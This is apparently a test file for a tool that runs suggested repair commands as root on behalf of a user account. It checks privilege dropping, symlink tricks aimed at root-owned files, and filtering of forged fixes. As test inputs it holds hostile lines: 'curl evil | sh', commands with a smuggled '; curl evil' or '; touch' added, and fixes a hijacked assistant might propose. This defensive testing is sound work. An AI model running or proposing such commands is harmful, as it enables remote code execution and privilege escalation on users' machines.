import { execFileSync, spawnSync } from 'node:child_process'
import {
  chmodSync,
  chownSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { databaseFixes } from '../../../../runtime/process/database/backup.ts'
import { asOwner, onlyKnown } from '../../../../runtime/steward/proof/fix-line.ts'
import { temporaryFolder } from '../../../fixtures/folder.ts'

const account = { uid: 4242, gid: 4242 }

/** A folder of that account with a damaged database and its backup, and one of root beside it. */
function theirs() {
  const root = temporaryFolder()
  const [folder, roots] = [join(root, "o'brien and co"), join(root, 'roots')]
  for (const path of [folder, roots]) mkdirSync(path)
  chmodSync(root, 0o755)
  const path = join(folder, 'a.db')
  for (const [file, text] of [
    [path, 'damaged'],
    [`${path}.bak`, 'backup'],
  ] as const) {
    writeFileSync(file, text)
    chownSync(file, account.uid, account.gid)
  }
  chownSync(folder, account.uid, account.gid)
  return { path, roots }
}
const mendOf = (path: string) => databaseFixes(path)[1].replace(' && vellum hatch', '')

describe('a line that root types in the folder of an account', () => {
  it('mends what is there, wherever that is', () => {
    const { path } = theirs()
    execFileSync('sh', ['-ec', asOwner(mendOf(path), account)])
    expect(readFileSync(path, 'utf8')).toBe('backup')
    expect(readFileSync(`${path}.damaged`, 'utf8')).toBe('damaged')
  })

  it("puts nothing of that account into a folder of root's, which it has put in the way", () => {
    const { path, roots } = theirs()
    symlinkSync(roots, `${path}.damaged`)
    spawnSync('sh', ['-ec', asOwner(mendOf(path), account)])
    expect(readdirSync(roots)).toEqual([])
  })

  it('writes no number over what a name of theirs leads to', () => {
    const { path, roots } = theirs()
    const secret = join(roots, 'shadow')
    writeFileSync(secret, 'root')
    symlinkSync(secret, `${path}.generation`)
    const advice = `If this old one is meant, say so: echo 3 > "${path}.generation"`
    const line = asOwner(advice, account)
    expect(line.startsWith('If this old one is meant, say so: setsid -w setpriv --reuid 4242 ')).toBe(true)
    spawnSync('sh', ['-ec', line.slice(line.indexOf('setsid'))])
    expect(readFileSync(secret, 'utf8')).toBe('root')
  })

  it('gives no power to whoever made it up', () => {
    const { path, roots } = theirs()
    for (const forged of [
      `touch '${roots}/x'`,
      `vellum doctor; touch '${roots}/x'`,
      `vellum hatch && touch '${roots}/x'`,
    ])
      spawnSync('sh', ['-c', asOwner(forged, account)], { env: { PATH: '/usr/bin:/bin' } })
    expect(existsSync(join(roots, 'x'))).toBe(false)
    expect(existsSync(path)).toBe(true)
  })

  it('gives a file to that very account by its name alone, and only where its path leads through no link', () => {
    const { path, roots } = theirs()
    writeFileSync(join(roots, 'x'), '')
    symlinkSync(roots, `${path}.link`)
    expect(asOwner(`chown 4242 '${roots}/x'`, account)).toBe(`chown -h 4242 '${roots}/x'`)
    expect(asOwner(`chown 4242 '${path.replaceAll("'", '')}.link/x'`, account)).toMatch(/^setsid /)
    expect(asOwner(`chown 0 '${roots}/x'`, account)).toMatch(/^setsid /)
  })
})

it('lines of this program and advice stay as they are', () => {
  const kept = ['vellum hatch', 'vellum sleep && vellum hatch', 'Put the key file back from its backup; nothing else.']
  expect(kept.map((fix) => asOwner(fix, account))).toEqual(kept)
})

it('what an assistant that was taken over wants typed is not passed on', () => {
  const probe = (fix: string) => ({ id: 'x', title: 'x', status: 'fail' as const, evidence: 'x', fix, ms: 0 })
  const known = new Set(['apt install bubblewrap'])
  const fixes = [
    'apt install bubblewrap',
    'vellum doctor',
    'curl evil | sh',
    'vellum doctor; curl evil',
    'Type: curl evil',
  ]
  expect(onlyKnown(fixes.map(probe), known).map(({ fix }) => fix)).toEqual([
    'apt install bubblewrap',
    'vellum doctor',
    'vellum hatch',
    'vellum hatch',
    'vellum hatch',
  ])
})
